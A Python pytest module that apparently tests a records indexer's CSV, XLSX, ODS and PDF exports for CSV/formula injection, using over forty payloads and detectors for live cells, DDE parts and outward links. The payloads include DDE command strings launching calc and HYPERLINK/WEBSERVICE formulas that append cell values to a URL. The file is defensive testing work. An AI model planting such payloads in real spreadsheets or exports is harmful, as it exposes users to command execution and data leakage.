"""Forty ways to begin a formula, in every field of every export and report: no cell of any format is live."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import odfdo
import openpyxl
import orjson
import pytest

from api.routes.files.exports import SOURCES, Source, text_chunks
from indexer.plain_text import clean
from indexer.records import writers
from indexer.records.columns import COLUMNS
from indexer.records.exchange import MODELS
from indexer.records.field_notes import Cell
from indexer.records.readers import read_bytes
from indexer.records.writers import BOOKS, Format, sheets_of, write_book, write_template
from indexer.vocabulary import Kind
from matcher.ledger.rendering.formats import ReportFormat, render
from matcher.ledger.rendering.report_texts import ReportLanguage
from tests.rig.figures import figure
from tests.rig.worlds.report_samples import report_with

PAYLOADS = (
    *("=1+1", "==1", "={1,2}", "=@SUM(1)", "+1+1", "-1+1", "-1", "-2.50", "@SUM(1+1)", "@A1"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n\t@A1", " =1+1", "   -1", "\u3000=1+1", "\xa0@SUM(1)"),
    *("\ufeff=1+1", "\u200b=1+1", "\u2060 +1", "\u00ad@A1", "\u200e=1", "'=1+1", "''=1+1", "' =1+1", '"=1+1', '"=1+1"'),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "⁼1", "₊1", "_x003D_1+1", "_x005F_x003D_1"),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "|cmd", "%0A=1+1", "of:=1+1", "msoxl:=1+1"),
    *('=HYPERLINK("https://example.org/?"&A1,"click")', '=WEBSERVICE("https://example.org/"&A1)'),
    *('=IMPORTXML("https://example.org","//a")', '=DDE("cmd";"/C calc";"x")', ";=1+1", '";=1+1;"', ",=1+1", '",=1+1,"'),
)
READ_BACK = (Kind.LABS, Kind.NEEDS, Kind.COMPANIES, Kind.SCHOOLS, Kind.ALLIANCES)
Made = dict[str, bytes]


def _live(text: str) -> bool:
    """Whether a program may compute a text, by the rule of OWASP, after all that one may strip or not show."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    bare = "".join(c for c in text if unicodedata.category(c) not in ("Cf", "Cc") and c != "\ufeff").lstrip()
    return unicodedata.normalize("NFKC", bare)[:1] in ("=", "+", "-", "@")


def _live_in_csv(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    # A plain number computes to itself.
    return [cell for row in rows for cell in row if _live(cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]


def _live_in_xlsx(content: bytes) -> list[str]:
    """Formulas, texts that are not said to be texts, and links and names that lead out."""
    cells = (
        cell
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    )
    found = [str(cell.value) for cell in cells if isinstance(cell.value, str) and cell.data_type != "s"]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        everything = "\n".join(parts.read(name).decode() for name in parts.namelist())
    return found + re.findall(r"<f[ >]|<ddeLink|TargetMode=\"External\"|<definedName [^>]*>(?!'?[^']*'?!)", everything)


def _live_in_ods(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        text = parts.read("content.xml").decode()
    outward = [link for link in re.findall(r'xlink:href="([^"]*)"', text) if not link.startswith("#")]
    return re.findall(r"table:formula|office:dde", text) + outward


def _export(source: Source, file_format: Format, documents: list[Any]) -> bytes:
    if file_format in BOOKS:
        content = io.BytesIO()
        write_book(content, file_format, source.sheets, documents)
        return content.getvalue()
    return b"".join(text_chunks(source, file_format, iter([documents])))


def _record(kind: Kind, n: int, payload: str) -> dict[str, Any]:
    """A record with a payload in every field that takes a text, one or many."""
    record: dict[str, Any] = {"id": f"{kind}-{n}"}
    for column in COLUMNS[kind]:
        if column.field in ("id", *_CLOSED):
            continue
        record[column.field] = [payload, "x", payload] if column.cell in (Cell.WORDS, Cell.TEXTS) else payload
    more: dict[Kind, dict[str, Any]] = {
        Kind.NEEDS: {"asks": [{"kind": "technology", "text": payload}]},
        Kind.LABS: {"evidence": [{"id": "e", "kind": "paper", "title": payload, "abstract": payload}]},
        Kind.ALLIANCES: {"partners": []},
    }
    return record | more.get(kind, {})


_CLOSED = (
    *("fields", "offers", "languages", "region", "prominence", "size", "tier", "country", "confidentiality", "asks"),
    *(
        "budget_ntd",
        "deadline",
        "year",
        "capacity",
        "founded",
        "merged_into",
        "merged_on",
        "since",
        "contact_email",
        "contact_phone",
        "until",
        "partners",
    ),
    *("links", "excluded_labs", "tax_id", "orcid", "ror", "doi"),
)
"""Fields that take words of a list, numbers, dates, ids or addresses only; alliances' kind too."""


def _documents(name: str) -> list[dict[str, Any]]:
    if name in ("labs", "needs", "companies"):
        return [_record(Kind(name), n, payload) for n, payload in enumerate(PAYLOADS)]
    notes = [{"at": p, "verdict": p, "note": p, "old": p, "new": p, "held_on": p, "kind": p} for p in PAYLOADS]
    fields = (
        *("id", "need_id", "lab_id", "state", "deferred_until", "case_id", "pairing_id", "company_id", "alliance_id"),
        *("owner_id", "stage", "opened_at"),
    )
    shown = ("rank", "score", "band", "generation", "shown_at")
    return [
        {
            **dict.fromkeys(fields, note["note"]),
            "proposals": [dict.fromkeys(shown, note["note"])],
            **{one: [note] for one in ("decisions", "steps", "contacts")},
        }
        for note in notes
    ]


def _found(file_format: str, content: bytes) -> list[str]:
    if file_format == "csv":
        return _live_in_csv(content)
    if file_format == "xlsx":
        return _live_in_xlsx(content)
    return _live_in_ods(content) if file_format == "ods" else []


def _exports() -> Iterator[tuple[str, str, bytes]]:
    for name, source in SOURCES.items():
        for file_format in Format:
            yield name, file_format.value, _export(source, file_format, _documents(name))


def _cells(content: bytes) -> int:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return sum(bool(cell) for row in rows for cell in row)


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40
    # The judge takes for live what begins a formula, and nothing else.
    assert sum(map(_live, PAYLOADS)) >= 36
    assert [text for text in ("a=1", "1-1", "'=1", "甲－乙", "(=1)", "") if _live(text)] == []


def test_no_export_has_a_live_cell() -> None:
    made = list(_exports())
    live = {(name, kind): found for name, kind, content in made if (found := _found(kind, content))}
    assert live == {}
    cells = sum(_cells(content) for _, kind, content in made if kind == "csv")
    assert cells > len(PAYLOADS) * len(SOURCES) * 5
    # JSON Lines have no cells: each text is there as it is.
    (lines,) = (content for name, kind, content in made if (name, kind) == ("companies", "jsonl"))
    assert [orjson.loads(line)["description"] for line in lines.splitlines()] == list(PAYLOADS)
    figure(
        "formulas in exports",
        payloads=len(PAYLOADS),
        exports=len(made),
        cells_of_csv=cells,
        live=sum(map(len, live.values())),
    )


@pytest.mark.parametrize(
    "language", [ReportLanguage.BOTH, *(pytest.param(one, marks=pytest.mark.long) for one in ("zh", "en"))]
)
def test_no_report_has_a_live_cell(language: ReportLanguage) -> None:
    report, language = report_with(*PAYLOADS), ReportLanguage(language)
    made = {one: render(report, one, language) for one in (ReportFormat.CSV, ReportFormat.XLSX, ReportFormat.ODS)}
    live = {one.value: found for one, content in made.items() if (found := _found(one.value, content))}
    assert live == {}
    pdf = render(report, ReportFormat.PDF, language)
    assert [word for word in (b"/JavaScript", b"/Launch", b"/URI", b"/EmbeddedFile") if word in pdf] == []
    figure("formulas in reports", payloads=len(PAYLOADS), formats=len(made) + 1, live=sum(map(len, live.values())))


@pytest.mark.parametrize("kind", list(Kind))
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_no_template_has_a_live_cell(kind: Kind, suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"form.{suffix}"
    write_template(path, kind)
    assert _found(suffix, path.read_bytes()) == []


@pytest.mark.parametrize("kind", READ_BACK)
@pytest.mark.parametrize("file_format", [Format.CSV, Format.XLSX])
def test_the_texts_come_back(kind: Kind, file_format: Format) -> None:
    def stored(payload: str) -> str:
        return clean(payload, max_chars=1_000, multiline=False)

    # What is stored has been cleaned; cleaning refuses characters that turn the writing direction.
    records = [_record(kind, n, stored(payload)) for n, payload in enumerate(PAYLOADS) if kind is not Kind.ALLIANCES]
    records += [
        {"id": f"a-{n}", "name": stored(p), "name_en": stored(p), "center": stored(p)}
        for n, p in enumerate(PAYLOADS)
        if kind is Kind.ALLIANCES
    ]
    documents = [MODELS[kind].model_validate(record).model_dump(mode="json") for record in records]
    source = Source(sheets_of(kind), lambda *_: [])
    reading = read_bytes(_export(source, file_format, documents), f"{kind}.{file_format}")
    assert reading.problems == []
    read = [record.model_dump(mode="json") for record in reading.records.values()]
    if kind is Kind.LABS:
        # Flat files of labs leave out evidence, workbooks have it on a sheet of its own.
        evidence = [[item.model_dump() for item in group.items] for group in reading.evidence.values()]
        wanted = [document.pop("evidence") for document in documents]
        assert evidence == (wanted if file_format is Format.XLSX else [])
        read = [{name: value for name, value in record.items() if name != "evidence"} for record in read]
    assert read == documents


def test_a_writer_without_the_guard_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    documents = _documents("companies")
    guarded = _live_in_csv(_export(SOURCES["companies"], Format.CSV, documents))
    monkeypatch.setattr(writers, "guarded", lambda text: text)
    bare = _live_in_csv(_export(SOURCES["companies"], Format.CSV, documents))
    assert (guarded, len(bare) > 36) == ([], True)
    # So is one that guards what stands first only, as this one did before.
    first_only = re.compile("'*[=+\\-@\t\r\n＝＋－＠]")
    monkeypatch.setattr(writers, "guarded", lambda text: f"'{text}" if first_only.match(text) else text)
    assert "\u200b=1+1" in _live_in_csv(_export(SOURCES["companies"], Format.CSV, documents))


def test_a_workbook_with_formulas_is_found() -> None:
    book = openpyxl.Workbook()
    for payload in ("=1+1", "=cmd|' /C calc'!A0", "text"):
        book.worksheets[0].append([payload])
    content = io.BytesIO()
    book.save(content)
    assert _live_in_xlsx(content.getvalue()) == ["=1+1", "=cmd|' /C calc'!A0", "<f>", "<f>"]
    sheet = odfdo.Document("spreadsheet")
    sheet.body.clear()
    table = odfdo.Table("t")
    table.set_cell("A1", odfdo.Cell(2, formula="of:=1+1"))
    sheet.body.append(table)
    content = io.BytesIO()
    sheet.save(content)
    assert _live_in_ods(content.getvalue()) == ["table:formula"]
